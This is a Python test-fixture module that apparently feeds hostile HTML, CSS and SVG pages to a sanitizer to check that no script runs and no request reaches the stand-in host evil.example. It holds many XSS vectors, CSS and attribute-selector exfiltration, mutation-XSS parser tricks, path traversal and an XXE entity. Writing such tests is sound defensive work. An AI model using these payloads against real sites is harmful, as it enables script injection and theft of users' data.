# ruff: noqa: E501 - an attack is read best on one line
"""Pages that try to run a script, to ask another server, or to lead a reader away, each in its own way.

`EVIL` in them is the address of a server that must never be asked.
"""

from __future__ import annotations

EVIL = "http://evil.example"
# A script that runs shows itself in three ways: the title, the console, a request.
CANARY = f"document.title='CANARY';console.log('CANARY');new Image().src='{EVIL}/ran'"

IN_HEAD = {
    "script": f"<script>{CANARY}</script><script src='{EVIL}/s.js'></script><script type=module>{CANARY}</script>",
    "hints": "".join(
        f"<link rel='{rel}' href='{EVIL}/{rel}' as=image>"
        for rel in ("prefetch", "preconnect", "PreConnect", "dns-prefetch", "prerender", "preload", "modulepreload",
                    "manifest", "next", "search", "pingback", "icon preconnect", "alternate stylesheet", "expect")
    ),
    "speculation": f'<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{EVIL}/r"]}}]}}</script>',
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><META HTTP-EQUIV=ReFresh content='0;{EVIL}'>",
    "base": f"<base href='{EVIL}/' target=_top><base href='//evil.example/x/'>",
    "own policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
        "<meta http-equiv=Accept-CH content='Sec-CH-UA'><meta http-equiv=set-cookie content='a=b'>"
        "<meta name=referrer content=unsafe-url>",
    "noscript": f"<noscript><meta http-equiv=refresh content='0;url={EVIL}/n'><link rel=preconnect href={EVIL}></noscript>",
    "sheets": f"<link rel=stylesheet href='{EVIL}/a.css'><link rel='StyleSheet' href='//evil.example/b.css'>"
        f"<style>@import '{EVIL}/c.css';@import url({EVIL}/d.css);@\\69mport '{EVIL}/e.css';</style>",
    "selectors": "<style>" + "".join(
        f"input[value^='{one}']{{background:url({EVIL}/value-{one})}}" for one in "abc"
    ) + "</style>",
    "css": f"<style>body{{background:url({EVIL}/1),u\\72l({EVIL}/2),\\75rl('{EVIL}/3'),image-set('{EVIL}/4' 1x),"
        f"-webkit-image-set(url({EVIL}/5) 1x);cursor:url({EVIL}/6),auto;list-style:url({EVIL}/7);content:url({EVIL}/8);"
        f"border-image:url({EVIL}/9);mask:url({EVIL}/10);filter:url({EVIL}/11#f);clip-path:url({EVIL}/12#c);"
        f"offset-path:url({EVIL}/13#o);shape-outside:url({EVIL}/14);src:src('{EVIL}/15');"
        f"background-image:cross-fade(url({EVIL}/16),url({EVIL}/17));--a:url({EVIL}/18);background:var(--a)}}"
        f"body::after{{content:image('{EVIL}/19')}} p{{background:url(  '{EVIL}/20}}"
        f"@font-face{{font-family:x;src:url({EVIL}/21) format('woff2')}} body{{font-family:x}}"
        f"@namespace url({EVIL}/22);@property --u{{syntax:'<url>';inherits:true;initial-value:url({EVIL}/23)}}</style>",
    "comments in css": f"<style>/*</style><style>*/body{{background:url({EVIL}/c1)}}/* \\*/a{{}}@import/**/'{EVIL}/c2';"
        f"u/**/rl({EVIL}/c3) url/**/({EVIL}/c4)</style>",
    "frameset": f"</head><frameset onload=\"{CANARY}\"><frame src='{EVIL}/f'></frameset>",
}  # fmt: skip

IN_BODY = {
    "links": f"<a href=\"javascript:{CANARY}\">a</a><a href=\" &#1;JaVa\tScRiPt&colon;{CANARY}\">b</a>"
        f"<a href=\"data:text/html,<script>{CANARY}</script>\">c</a><a href=\"vbscript:x\">d</a>"
        f"<a href='{EVIL}/page' ping='{EVIL}/ping' attributionsrc='{EVIL}/attr'>e</a><a href='//evil.example/' target=_blank>f</a>"
        f"<a href='{EVIL}\\@x/'>g</a><a href='http:\\\\evil.example\\'>h</a><a href='/\\evil.example/'>i</a>"
        "<a href='intent://evil.example/#Intent;end'>j</a><a href='mailto:x@evil.example'>k</a><a href='blob:x'>l</a>",
    "handlers": f"<svg onload=\"{CANARY}\"><img src=x onerror=\"{CANARY}\"><body onload=\"{CANARY}\"><details open ontoggle=\"{CANARY}\">"
        f"<input autofocus onfocus=\"{CANARY}\"><video onloadstart=\"{CANARY}\"><source></video><marquee onstart=\"{CANARY}\">x</marquee>"
        f"<svg><animate onbegin=\"{CANARY}\" attributeName=x dur=1s /></svg><style onload=\"{CANARY}\"></style>",
    "forms": f"<form action='{EVIL}/f' id=f><input name=a value=abc><button formaction='{EVIL}/g'>x</button>"
        f"<input type=image src='{EVIL}/i' formaction='{EVIL}/h'></form><button form=f formaction='{EVIL}'>y</button>",
    "frames": f"<iframe src='{EVIL}/1'></iframe><iframe src=\"javascript:parent.{CANARY}\"></iframe>"
        f"<iframe srcdoc=\"<script>parent.{CANARY}</script><img src={EVIL}/2>\"></iframe>"
        f"<iframe src=\"data:text/html,<script>{CANARY}</script><img src={EVIL}/3>\"></iframe>"
        f"<object data='{EVIL}/4'></object><object data='data:text/html,x'></object><embed src='{EVIL}/5'>"
        f"<portal src='{EVIL}/6'></portal><fencedframe src='{EVIL}/7'></fencedframe><applet archive='{EVIL}/8'></applet>"
        f"<object classid='{EVIL}/9' codebase='{EVIL}/'><param name=movie value='{EVIL}/10'></object>"
        "<iframe src='/frame.html'></iframe><iframe src='/evil.svg'></iframe><embed src='/evil.svg'><object data='/evil.svg'></object>",
    "pictures": f"<img src='{EVIL}/1' srcset='{EVIL}/2 1x, {EVIL}/3 2x' attributionsrc='{EVIL}/4' lowsrc='{EVIL}/5' dynsrc='{EVIL}/6'>"
        f"<picture><source srcset='{EVIL}/7'><img src='//evil.example/8'></picture><image src='{EVIL}/9'><img data-src='{EVIL}/10'>"
        f"<link rel=preload as=image imagesrcset='{EVIL}/11 1x'><body background='{EVIL}/12'><table background='{EVIL}/13'>"
        f"<tr background='{EVIL}/14'><td background='{EVIL}/15'>x</table><img src='/evil.svg'><img src='/evil.png'>",
    "media": f"<video poster='{EVIL}/1' src='{EVIL}/2' autoplay></video><audio src='{EVIL}/3' autoplay preload=auto></audio>"
        f"<video autoplay><source src='{EVIL}/4'><track default src='{EVIL}/5'></video><bgsound src='{EVIL}/6'>",
    "svg": f"<svg><image href='{EVIL}/1'/><image xlink:href='{EVIL}/2'/><use href='{EVIL}/3#a'/><script href='{EVIL}/4'>{CANARY}</script>"
        f"<style>@import '{EVIL}/5';</style><filter id=f><feImage href='{EVIL}/6'/></filter><rect filter='url({EVIL}/7#f)' fill='url({EVIL}/8#g)'/>"
        f"<a href='javascript:{CANARY}'><text y=20>t</text></a><foreignObject><iframe src='{EVIL}/9'></iframe></foreignObject>"
        f"<text><textPath href='{EVIL}/10#p'>x</textPath></text><linearGradient href='{EVIL}/11#g'/><mpath href='{EVIL}/12'/></svg>",
    "animated links": f"<svg width=400 height=40><a id=smil href='#'><set attributeName=href to='{EVIL}/smil'/>"
        f"<animate attributeName='xlink:href' values='{EVIL}/smil2' dur=1s fill=freeze /><animate attributeName=target to=_top />"
        f"<text y=30 font-size=30>click here</text></a><image width=9 height=9><set attributeName=href to='{EVIL}/smil3'/></image></svg>",
    "mathml": f"<math href='{EVIL}/1'><mi href='javascript:{CANARY}' xlink:href='{EVIL}/2'>x</mi><maction actiontype=statusline#{EVIL}>y</maction>"
        f"<annotation-xml encoding='text/html'><img src='{EVIL}/3'><link rel=preconnect href='{EVIL}'></annotation-xml></math>",
    "mutation": f"<svg></p><style><a id=\"</style><link rel=preconnect href={EVIL}/1><img src={EVIL}/2 onerror={CANARY}>\">"
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;link rel=preconnect href={EVIL}/3&gt;&lt;img src={EVIL}/4 onerror=1&gt;\">",
    "style in svg": f"<svg><style>&lt;link rel=preconnect href={EVIL}/1&gt;&lt;img src={EVIL}/2 onerror=\"{CANARY}\"&gt;</style></svg>",
    "style in math": f"<math><style>&lt;link rel=preconnect href={EVIL}/1&gt;&lt;img src={EVIL}/2&gt;</style></math>",
    "other raw texts": f"<svg><xmp>&lt;link rel=preconnect href={EVIL}/1&gt;</xmp><noembed>&lt;link rel=preconnect href={EVIL}/2&gt;</noembed>"
        f"<iframe>&lt;link rel=preconnect href={EVIL}/3&gt;</iframe><noframes>&lt;link rel=preconnect href={EVIL}/4&gt;</noframes>"
        f"<plaintext>&lt;link rel=preconnect href={EVIL}/5&gt;</plaintext><noscript>&lt;link rel=preconnect href={EVIL}/6&gt;</noscript></svg>",
    "noscript": f"<noscript><p title=\"</noscript><link rel=preconnect href={EVIL}/1><img src={EVIL}/2>\"></noscript>"
        f"<noscript><link rel=preconnect href={EVIL}/3><a href='{EVIL}/4'>x</a></noscript>",
    "templates": f"<div><template shadowrootmode=open><link rel=preconnect href={EVIL}/1><a href='{EVIL}/2'>x</a><img src={EVIL}/3></template></div>"
        f"<template><link rel=preconnect href={EVIL}/4><script>{CANARY}</script></template><div><template ShadowRootMode=closed>"
        f"<style>@import '{EVIL}/5';</style></template></div>",
    "marks of ours": f"<style-x DATA-SHEET-0=0>x</style-x><style-x DATA-SHEET-0=77>x</style-x>"
        f"<style>&lt;a</style><style><link rel=preconnect href={EVIL}/1><img src={EVIL}/2></style><p title='<style data-sheet&#45;0=\"0\">'>",
    "paths": "<img src='http://paper.example/../../../../export/articles.csv'><a href='http://a/../../../counts?q=x'>x</a>"
        "<iframe src='http://a/%2e%2e/.%2E/../../page/2026/http://127.0.0.1/'></iframe><img src='http://a/?q=\"><img src=x>'>",
    "comments": f"<!--><link rel=preconnect href={EVIL}/1>--><!--[if IE]><link rel=preconnect href={EVIL}/2><![endif]-->"
        f"<![CDATA[<link rel=preconnect href={EVIL}/3>]]><?xml-stylesheet href='{EVIL}/4'?><svg><![CDATA[<link rel=preconnect href={EVIL}/5>]]></svg>",
    "nested tables": "<table>" * 400 + "x" + f"<link rel=preconnect href={EVIL}/1>",
    "select": f"<select><option><link rel=preconnect href={EVIL}/1></option></select><select><template><link rel=preconnect href={EVIL}/2></template>"
        f"<svg><style><link rel=preconnect href={EVIL}/3></style></svg></select>",
    "textarea": f"<textarea><link rel=preconnect href={EVIL}/1></textarea><svg><textarea>&lt;link rel=preconnect href={EVIL}/2&gt;</textarea>"
        f"<title>&lt;link rel=preconnect href={EVIL}/3&gt;</title></svg>",
    "import maps": f'<script type="importmap">{{"imports":{{"a":"{EVIL}/1"}}}}</script><link rel=import href="{EVIL}/2">',
}  # fmt: skip

SVG = f"""<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{EVIL}/x.css"?>
<!DOCTYPE svg [<!ENTITY e SYSTEM "{EVIL}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" width="300" height="60" onload="{CANARY}">
<script>{CANARY}</script><style>@import '{EVIL}/s.css';</style><image href="{EVIL}/i.png"/>
<h:link rel="preconnect" href="{EVIL}/c"/><h:link rel="dns-prefetch" href="{EVIL}/d"/><h:script>{CANARY}</h:script>
<h:meta http-equiv="refresh" content="0;url={EVIL}/r"/><a href="{EVIL}/a" target="_top"><text y="30">click here</text></a>&e;
<foreignObject><h:iframe src="{EVIL}/f"/></foreignObject></svg>"""
